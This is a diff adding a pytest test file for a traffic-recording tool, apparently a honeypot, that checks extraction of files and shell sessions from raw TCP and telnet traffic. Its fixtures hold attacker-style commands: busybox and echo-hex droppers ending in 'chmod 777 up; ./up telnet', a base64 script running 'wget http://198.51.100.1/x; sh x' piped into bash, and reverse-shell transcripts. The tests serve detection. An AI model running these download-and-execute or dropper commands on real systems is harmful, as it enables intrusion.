@@ -1,0 +1,237 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Files over bare TCP, files typed into shells, and shells over bare TCP, as `fishbowl replay` records them."""
+import base64
+import binascii
+import gzip
+import hashlib
+import io
+import random
+import struct
+import tarfile
+
+import pytest
+
+from test_shell import of, replay, talk
+
+ELF = b'\x7fELF\x01\x01\x01\0' + bytes(8) + random.Random(1).randbytes(3000)
+
+
+def files(records):
+    return [(r['fileinfo']['filename'], r['fileinfo']['size'], r['fileinfo']['state'], r['fileinfo'].get('sha256'))
+            for r in records if r['event_type'] == 'fileinfo']
+
+
+def whole(name, data):
+    return name, len(data), 'CLOSED', hashlib.sha256(data).hexdigest()
+
+
+def pieces(data, size=1000):
+    return [data[at:at + size] for at in range(0, len(data), size)]
+
+
+def tar():
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as archive:
+        info = tarfile.TarInfo('kit/scan.sh')
+        info.size = 5
+        archive.addfile(info, io.BytesIO(b'hello'))
+    return out.getvalue()
+
+
+def pe():
+    return b'MZ' + bytes(58) + struct.pack('<I', 0x80) + bytes(64) + b'PE\0\0' + random.Random(2).randbytes(900)
+
+
+# ---- files over bare TCP ----
+
+RAW = {
+    'elf': ELF, 'pe': pe(), 'tar': tar(), 'gzip': gzip.compress(b'x' * 3000, mtime=0), 'script': b'#!/bin/sh\necho pwned\n',
+    'zip': b'PK\3\4' + bytes(60), 'java-class': b'\xca\xfe\xba\xbe\0\0\0\x34' + bytes(50), 'bzip2': b'BZh91AY&SY' + bytes(40),
+    'png': b'\x89PNG\r\n\x1a\n' + bytes(40), 'deb': b'!<arch>\ndebian-binary' + bytes(40), 'pdf': b'%PDF-1.4\n' + bytes(9),
+    'rar': b'Rar!\x1a\x07\0' + bytes(40), 'pcap': struct.pack('<IHH', 0xa1b2c3d4, 2, 4) + bytes(16),
+}
+
+
+@pytest.mark.parametrize('kind', RAW)
+@pytest.mark.parametrize('side', [0, 1])
+def test_raw_file(tmp_path, kind, side):
+    records = replay(tmp_path, talk([(side, piece) for piece in pieces(RAW[kind])], 40000, 4444))
+    assert files(records) == [whole('', RAW[kind])]
+    [file] = [r for r in records if r['event_type'] == 'fileinfo']
+    assert file['raw_file'] == {'type': kind}
+    assert file['src_ip'] == ('192.0.2.10' if side else '198.51.100.7')
+    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'failed'}
+
+
+def test_raw_file_behind_a_line(tmp_path):
+    records = replay(tmp_path, talk([(0, b'kit.elf 3016\n' + ELF[:500]), (0, ELF[500:])], 40000, 9999))
+    assert files(records) == [whole('', ELF)]
+    assert of(records, 'fileinfo') and [r['raw_file'] for r in records if r['event_type'] == 'fileinfo'] == [
+        {'type': 'elf', 'header': 'kit.elf 3016'}]
+
+
+def test_both_send_files(tmp_path):
+    records = replay(tmp_path, talk([(0, ELF), (1, tar())], 40000, 9999))
+    assert sorted(files(records)) == sorted([whole('', ELF), whole('', tar())])
+
+
+@pytest.mark.parametrize('data', [
+    b'MZ' + bytes(300), b'\x7fELF\x09' + bytes(40), b'#!comment\n', b'\x1f\x8b\x08\xff' + bytes(40), b'BM' + b'\1' * 60,
+    b'hello\n#!/bin/sh\n', b'\x00\x7fELF\x01\x01\x01' + bytes(40)])
+def test_no_raw_file(tmp_path, data):
+    assert files(replay(tmp_path, talk([(0, data), (1, b'\1\2\3')], 40000, 4444))) == []
+
+
+# ---- files typed into shells ----
+
+PROMPT = b'\r\n# '
+BEGIN = [(1, b'\xff\xfb\x01\r\nlogin: '), (0, b'root\r\n'), (1, b'Password: '), (0, b'root\r\n'), (1, b'\r\n# ')]
+
+
+def typed(*lines):
+    steps = list(BEGIN)
+    for line in lines:
+        steps += [(0, line + b'\r\n'), (1, line + PROMPT)]
+    return steps
+
+
+def hexed(data, form=rb'\x%02x'):
+    return b''.join(form % byte for byte in data)
+
+
+def uu(data, name):
+    lines = [binascii.b2a_uu(piece).rstrip(b'\n') for piece in pieces(data, 45)]
+    return [b'begin 644 ' + name, *lines, b'`', b'end']
+
+
+def loader(data, first, rest, form=rb'\x%02x', size=120):
+    return [(rest if n else first) % hexed(piece, form) for n, piece in enumerate(pieces(data, size))]
+
+
+B64 = [piece for piece in pieces(base64.b64encode(ELF), 76)]
+OCTAL = rb'\%03o'
+PASTED = {
+    'echo': (loader(ELF, b'echo -ne "%s" > .d', b'echo -ne "%s" >> .d'), '.d'),
+    'busybox': ([b'>/tmp/up && cd /tmp/', *loader(ELF, b"/bin/busybox echo -en '%s' >> up; /bin/busybox ECCHI",
+                                               b"/bin/busybox echo -en '%s' >> up; /bin/busybox ECCHI"),
+                 b'/bin/busybox chmod 777 up; ./up telnet'], 'up'),
+    'bare': (loader(ELF, rb'echo -ne %s>d', rb'echo -ne %s>>d', form=rb'\\x%02x'), 'd'),
+    'long': (loader(ELF, b'echo -ne "%s" > f', b'echo -ne "%s" >> f', size=2000), 'f'),
+    'printf octal': (loader(ELF, b"printf '%s' > p", b"printf '%s' >> p", form=OCTAL), 'p'),
+    'printf hex': (loader(ELF, b'printf "%s" > p', b'printf "%s" >> p'), 'p'),
+    'printf %b': (loader(ELF, b"printf %%b '%s' > p", b"printf '%%b' '%s' >> p"), 'p'),
+    'dollar': (loader(ELF, b"printf %%s $'%s' > q", b"printf %%s $'%s' >> q"), 'q'),
+    'uuencode': (uu(ELF, b'kit.bin'), 'kit.bin'),
+    'uudecode': ([b'uudecode << EOF', *uu(ELF, b'k'), b'EOF'], 'k'),
+    'uudecode -o': ([b'uudecode -o /tmp/x <<EOF', *uu(ELF, b'k'), b'EOF'], '/tmp/x'),
+    'begin-base64': ([b'begin-base64 755 run', *B64, b'===='], 'run'),
+    'here document': ([b"base64 -d > /tmp/k <<'END'", *B64, b'END'], '/tmp/k'),
+    'cat into base64': ([b'cat << EOF | base64 --decode > k', *B64, b'EOF', b'chmod +x k'], 'k'),
+    'echo into base64': ([b'echo ' + base64.b64encode(ELF) + b' | base64 -d > k; chmod 755 k'], 'k'),
+    'quoted lines': ([b'echo "' + B64[0], *B64[1:-1], B64[-1] + b'" | base64 -d > k'], 'k'),
+    'appended': ([line for piece in pieces(ELF, 300) for line in [b'echo ' + base64.b64encode(piece) + b'|base64 -d>>k']], 'k'),
+    'openssl': ([b'openssl base64 -d -out k << EOF', *B64, b'EOF'], 'k'),
+    'openssl enc': ([b'openssl enc -base64 -d > k << EOF', *B64, b'EOF'], 'k'),
+    'typed until ^D': ([b'base64 -d > k', *B64, b'\x04chmod +x k', b'echo done'], 'k'),
+    'hex': ([b'echo ' + binascii.hexlify(ELF) + b' | xxd -r -p > k'], 'k'),
+    'here text': ([b'base64 -d <<< ' + base64.b64encode(ELF) + b' > k'], 'k'),
+}
+
+
+@pytest.mark.parametrize('way', PASTED)
+def test_pasted(tmp_path, way):
+    lines, name = PASTED[way]
+    assert files(replay(tmp_path, talk(typed(*lines), 40000, 23))) == [whole(name, ELF)]
+
+
+def test_pasted_in_two_steps(tmp_path):
+    lines = [b'echo %s >> k.b64' % piece for piece in B64] + [b'base64 -d k.b64 > k', b'rm k.b64']
+    have = files(replay(tmp_path, talk(typed(*lines), 40000, 23)))
+    assert sorted(have) == sorted([whole('k', ELF), whole('k.b64', b''.join(piece + b'\n' for piece in B64))])
+
+
+def test_pasted_into_a_shell(tmp_path):
+    """No file is named: what is run is told."""
+    script = b'#!/bin/sh\nwget http://198.51.100.1/x; sh x\n'
+    have = files(replay(tmp_path, talk(typed(b'echo ' + base64.b64encode(script) + b' | base64 -d | bash'), 40000, 23)))
+    assert have == [whole('', script)]
+
+
+def test_script_in_a_here_document(tmp_path):
+    script = b'#!/bin/sh\n\n\techo "a > b"\nexit\n'
+    lines = [b'cat > /tmp/run.sh << "E"', *script.rstrip(b'\n').split(b'\n'), b'E', b'sh /tmp/run.sh']
+    assert files(replay(tmp_path, talk(typed(*lines), 40000, 23))) == [whole('/tmp/run.sh', script)]
+
+
+def test_several_files(tmp_path):
+    lines = [b'echo -ne "\\x41" > a; echo -n B > b', b'echo -n C >> a', b'echo new > b', b'echo x > /dev/null 2>&1', b'cat /x > y',
+             b'wget http://h/z > z']
+    assert sorted(files(replay(tmp_path, talk(typed(*lines), 40000, 23)))) == sorted([
+        whole('a', b'AC'), whole('b', b'B'), whole('b', b'new\n')])
+
+
+def test_cut_here_document(tmp_path):
+    [(name, size, state, digest)] = files(replay(tmp_path, talk(typed(b'cat > k << EOF', b'one'), 40000, 23)))
+    assert (name, size, state, digest) == ('k', 4, 'TRUNCATED', None)
+
+
+# ---- shells over bare TCP ----
+
+SHELLS = {
+    'bind': (0, [(0, b'id\n'), (1, b'uid=0(root) gid=0(root) groups=0(root)\n'), (0, b'uname -a\n'),
+                 (1, b'Linux box 5.10.0 #1 SMP x86_64 GNU/Linux\n'), (0, b'exit\n')],
+             [('id', 'uid=0(root) gid=0(root) groups=0(root)'), ('uname -a', 'Linux box 5.10.0 #1 SMP x86_64 GNU/Linux'),
+              ('exit', '')]),
+    'reverse': (1, [(0, b'bash: no job control in this shell\nwww@box:/$ '), (1, b'whoami\n'), (0, b'whoami\nwww\nwww@box:/$ '),
+                    (1, b'ls /\n'), (0, b'ls /\nbin\netc\nwww@box:/$ ')],
+                [('whoami', 'www\nwww@box:/$'), ('ls /', 'bin\netc\nwww@box:/$')]),
+    'windows': (1, [(0, b'Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Temp>'),
+                    (1, b'whoami\n'), (0, b'whoami\r\nbox\\user\r\n\r\nC:\\Temp>'), (1, b'dir\n'),
+                    (0, b'dir\r\n Volume in drive C is OS\r\n\r\nC:\\Temp>')],
+                [('whoami', 'box\\user\r\n\r\nC:\\Temp>'), ('dir', 'Volume in drive C is OS\r\n\r\nC:\\Temp>')]),
+    'prompts': (0, [(1, b'# '), (0, b'cd /tmp\n'), (1, b'# '), (0, b'./x\n'), (1, b'# ')], [('cd /tmp', '#'), ('./x', '#')]),
+    'silent': (0, [(0, b'cd /tmp\n'), (0, b'wget http://h/x\n'), (1, b'connecting\n'), (0, b'chmod +x x\n'), (0, b'ls -l\n'),
+                   (1, b'x\n')],
+               [('cd /tmp', ''), ('wget http://h/x', 'connecting'), ('chmod +x x', ''), ('ls -l', 'x')]),
+    'late': (0, [(1, b'what is said before anybody knows\n' * 20), (0, b'x\n'), (1, b'sh: 1: x: not found\n$ '), (0, b'id\n'),
+                 (1, b'uid=33(www-data) gid=33(www-data)\n$ ')],
+             [('x', 'sh: 1: x: not found\n$'), ('id', 'uid=33(www-data) gid=33(www-data)\n$')]),
+}
+
+
+@pytest.mark.parametrize('kind', SHELLS)
+def test_raw_shell(tmp_path, kind):
+    typist, steps, expected = SHELLS[kind]
+    records = replay(tmp_path, talk(steps, 40000, 31337))
+    more = {'reverse': True} if typist else {}
+    assert of(records, 'shell') == [{'command': command, 'output': output, **more} for command, output in expected]
+    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'shell'}
+
+
+def test_password_in_a_raw_shell(tmp_path):
+    records = replay(tmp_path, talk([(0, b'bash: no job control in this shell\nwww@box:/$ '), (1, b'su\n'), (0, b'Password: '),
+                                     (1, b'toor\n'), (0, b'\nroot@box:/# ')], 40000, 31337))
+    [login] = [r for r in records if r['event_type'] == 'login']
+    assert login['login'] == {'method': 'password', 'password': 'toor', 'result': 'success'}
+    assert login['src_ip'] == '192.0.2.10'
+    assert [line['command'] for line in of(records, 'shell')] == ['su']
+
+
+def test_file_in_a_raw_shell(tmp_path):
+    steps = [(0, b'sh-4.4$ '), (1, b'cd /tmp\n'), (0, b'sh-4.4$ ')]
+    for line in loader(ELF, b'echo -ne "%s" > .d', b'echo -ne "%s" >> .d'):
+        steps += [(1, line + b'\n'), (0, b'sh-4.4$ ')]
+    records = replay(tmp_path, talk(steps, 40000, 443))
+    assert files(records) == [whole('.d', ELF)]
+    assert [r['src_ip'] for r in records if r['event_type'] == 'fileinfo'] == ['192.0.2.10']
+
+
+@pytest.mark.parametrize('steps', [
+    [(0, b'julien\r\n'), (1, b'Login: julien  Name: J\r\nDirectory: /home/julien  Shell: /bin/sh\r\nNo Plan.\r\n')],
+    [(0, b'stats\r\n'), (1, b'STAT pid 1\r\nEND\r\n'), (0, b'get a\r\n'), (1, b'END\r\n'), (0, b'quit\r\n')],
+    [(1, b'200 news.example ready\r\n'), (0, b'GROUP a.b\r\n'), (1, b'211 1 1 1 a.b\r\n')],
+    [(0, b'/etc/passwd\r\n'), (1, b'root:x:0:0:root:/root:/bin/sh\n')],
+    [(0, b'hello\n'), (1, b'hello\n'), (0, b'id?\n'), (1, b'id?\n')]])
+def test_no_raw_shell(tmp_path, steps):
+    records = replay(tmp_path, talk(steps, 40000, 7979))
+    assert of(records, 'shell') == []
